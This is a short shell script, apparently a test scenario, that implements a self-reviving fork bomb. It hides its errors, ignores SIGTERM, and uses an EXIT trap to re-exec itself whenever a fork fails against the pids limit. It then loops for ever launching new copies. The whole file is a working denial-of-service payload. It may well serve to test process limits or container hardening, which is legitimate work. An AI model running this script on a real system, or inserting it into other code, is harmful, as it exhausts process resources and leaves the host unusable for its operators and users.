#!/bin/sh
# A fork bomb that never gives up: every copy forks copies of itself for ever, ignores SIGTERM, and
# when a fork fails (pids-max) the shell's EXIT trap execs a fresh copy in the same process.
exec 2>/dev/null
trap '' TERM
trap 'exec /bin/sh /scenarios/bomb.sh' EXIT
while :; do /bin/sh /scenarios/bomb.sh & done
